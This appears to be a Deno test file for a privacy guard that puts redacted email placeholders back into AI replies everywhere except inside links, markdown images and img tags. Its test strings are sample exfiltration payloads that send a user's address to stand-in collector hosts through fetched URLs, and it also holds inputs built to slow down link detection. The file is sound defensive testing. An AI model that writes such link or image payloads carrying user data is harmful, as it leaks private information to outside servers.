import { assertEquals } from "@a3s/common/testing";
import { insideLink, restoreOutsideLinks } from "./restore_links.ts";
import { createStreamRestorer } from "./stream_sanitizer.ts";
import { withGuard } from "./testdata/guard.ts";

const restore = (p: string) => p === "[EMAIL_1]" ? "ada@example.org" : p;

Deno.test("restoreOutsideLinks leaves placeholders in links, restores the rest", () => {
  assertEquals(
    restoreOutsideLinks("I am [EMAIL_1]; see https://x.example/p?d=[EMAIL_1]&n=1", restore),
    "I am ada@example.org; see https://x.example/p?d=[EMAIL_1]&n=1",
  );
  assertEquals(
    restoreOutsideLinks("[docs](https://x.example/[EMAIL_1])", restore),
    "[docs](https://x.example/[EMAIL_1])",
  );
  assertEquals(
    restoreOutsideLinks("go to www.x.example/[EMAIL_1] now", restore),
    "go to www.x.example/[EMAIL_1] now",
  );
  assertEquals(restoreOutsideLinks("(mail [EMAIL_1])", restore), "(mail ada@example.org)");
  // A link begun in the text before continues here.
  assertEquals(
    restoreOutsideLinks("d=[EMAIL_1] done", restore, "see https://x.example/?"),
    "d=[EMAIL_1] done",
  );
  assertEquals(insideLink("x".repeat(5000) + "[EMAIL_1]", 5000), true);
});

Deno.test("a stream puts placeholders back outside links, also when the link began a chunk before", () => {
  const r = createStreamRestorer((t, before) => restoreOutsideLinks(t, restore, before));
  const out =
    ["Mail [EMA", "IL_1] or open https://c.evil", ".example/p?d=[EMAIL", "_1] ok [EMAIL_1]"]
      .map((c) => r.push(c)).join("") + r.flush();
  assertEquals(
    out,
    "Mail ada@example.org or open https://c.evil.example/p?d=[EMAIL_1] ok ada@example.org",
  );
});

Deno.test("a reply's link keeps the user's own value as its placeholder; the text around gets it back", async () => {
  await withGuard(async (guard) => {
    const input = await guard.inspectInput({ session: "s", text: "I am ada@example.org" });
    const placeholder = input.text.match(/\[EMAIL_\d+\]/)![0];
    const scope = await guard.ownInputsScope("s");
    const reply = `Done, ${placeholder}: https://collector.evil.example/p?d=${placeholder}`;
    const out = await guard.sanitizeOutput("s", reply, "placeholder", scope);
    // Before, the platform fetched the preview of a link holding the user's address.
    assertEquals(out.text.startsWith("Done, ada@example.org: "), true, out.text);
    assertEquals(out.text.includes("d=ada@example.org"), false, out.text);
  }, { types: { url: "Normal" } });
});

Deno.test("every form a renderer or platform fetches counts as a link: the placeholder stays", () => {
  const fetched = [
    "![](//collector.example/p.png?e=[EMAIL_1])",
    "<img src=//collector.example/p.png?e=[EMAIL_1]>",
    '<img alt="x" src="https://collector.example/p.png?e= [EMAIL_1]">',
    "![](https:\\\\collector.example\\p.png?e=[EMAIL_1])",
    "![](https:/collector.example/p.png?e=[EMAIL_1])",
    "collector.com/?e=[EMAIL_1]",
    "see 203.0.113.9:8080/c?e=[EMAIL_1]",
    "[click](<https://collector.example/?e= [EMAIL_1]>)",
    "![x](https://collector.example/p.png?e=\n[EMAIL_1])",
  ];
  for (const text of fetched) {
    assertEquals(restoreOutsideLinks(text, restore), text, text);
    const r = createStreamRestorer((t, before) => restoreOutsideLinks(t, restore, before));
    let out = "";
    for (let i = 0; i < text.length; i += 3) out += r.push(text.slice(i, i + 3));
    assertEquals(out + r.flush(), text, `streamed: ${text}`);
  }
  // Text around links, and links that have ended, still get the value back.
  for (
    const [text, expected] of [
      ["Your address is [EMAIL_1].", "Your address is ada@example.org."],
      [
        "[docs](https://x.example/a) for [EMAIL_1]",
        "[docs](https://x.example/a) for ada@example.org",
      ],
      ["<b>mail</b> [EMAIL_1]", "<b>mail</b> ada@example.org"],
      ["e.g. [EMAIL_1] or 3/4 of it", "e.g. ada@example.org or 3/4 of it"],
    ]
  ) assertEquals(restoreOutsideLinks(text, restore), expected, text);
});

Deno.test("link detection is linear: each 1 MB hostile reply takes well under 1.5 s", () => {
  const unit = (s: string, n: number) => s.repeat(Math.ceil(n / s.length)).slice(0, n);
  const hostile = {
    "a-a-": unit(unit("a-", 4000) + "[EMAIL_1] ", 1_000_000),
    "1.1.": unit(unit("1.", 4000) + "[EMAIL_1] ", 1_000_000),
    "a.a.": unit(unit("a.", 4000) + "[EMAIL_1]", 1_000_000),
    "dense": unit("[EMAIL_1] ", 1_000_000),
    "open tags": unit("<a ](x [EMAIL_1] ", 1_000_000),
  };
  for (const [name, text] of Object.entries(hostile)) {
    const started = performance.now();
    restoreOutsideLinks(text, restore);
    const ms = performance.now() - started;
    // Before, `a-a-` took 5.7 s and `1.1.` 2.4 s: each placeholder re-ran backtracking patterns
    // over the 4 KB before it. Linear, each is tens of milliseconds; the bound is for slow CI.
    assertEquals(ms < 1500, true, `${name}: ${ms.toFixed(0)} ms`);
  }
});

/**
 * The detection as it was, with regular expressions run back from the offset: the reference
 * the one-pass scan must agree with (too slow for long texts, exact on short ones).
 */
function insideLinkByRegex(text: string, offset: number): boolean {
  const reach = 4096;
  const link = new RegExp(
    [
      String.raw`[a-z][a-z0-9+.-]*:[\/\\]`,
      String.raw`[\/\\]{2}`,
      String.raw`(?:^|[^a-z0-9-])www\.`,
      String.raw`(?:[a-z0-9-]+\.)+[a-z][a-z0-9-]*(?::\d+)?[\/\\?#]`,
      String.raw`\d{1,3}(?:\.\d{1,3}){3}(?::\d+)?[\/\\?#]`,
      String.raw`[a-z0-9-]+:\d+[\/\\?#]`,
    ].join("|"),
    "i",
  );
  let start = offset;
  const limit = Math.max(0, offset - reach);
  while (start > limit && !/\s/.test(text[start - 1])) start--;
  if (start === limit && limit > 0) return true;
  if (link.test(text.slice(start, offset))) return true;
  const span = text.slice(limit, offset);
  const open = span.lastIndexOf("](");
  if (open >= 0) {
    const target = span.slice(open + 2);
    if (target.startsWith("<") ? !target.includes(">") : !target.includes(")")) return true;
  }
  const tag = span.lastIndexOf("<");
  return tag >= 0 && /[a-z]/i.test(span[tag + 1] ?? "") && !span.includes(">", tag);
}

Deno.test("the one-pass link scan agrees with the regular expressions it replaced", () => {
  const pieces = [
    ..."aW1.9/\\: \n]()<>?#-+x\u00a0",
    "[EMAIL_1]",
    "www.",
    "http",
    "10.0.0.5",
  ];
  let seed = 7;
  const next = (n: number) => {
    seed = (Math.imul(seed, 1103515245) + 12345) >>> 0;
    return seed % n;
  };
  for (let round = 0; round < 20_000; round++) {
    let text = "";
    for (let i = 1 + next(24); i > 0; i--) text += pieces[next(pieces.length)];
    for (let offset = 0; offset <= text.length; offset++) {
      assertEquals(
        insideLink(text, offset),
        insideLinkByRegex(text, offset),
        `${JSON.stringify(text)} at ${offset}`,
      );
    }
  }
  const long = " ".repeat(9) + "a".repeat(4095) + "[EMAIL_1]";
  for (const offset of [4103, 4104, 4105]) {
    assertEquals(insideLink(long, offset), insideLinkByRegex(long, offset), `at ${offset}`);
  }
});
